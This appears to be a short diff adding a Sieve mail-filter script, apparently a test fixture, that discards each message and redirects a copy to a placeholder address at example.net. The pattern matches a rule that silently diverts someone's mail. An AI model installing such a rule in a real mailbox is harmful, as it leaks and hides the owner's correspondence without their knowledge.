@@ -1,0 +1,3 @@
+require ["copy"];
+discard;
+redirect :copy "carol@example.net";
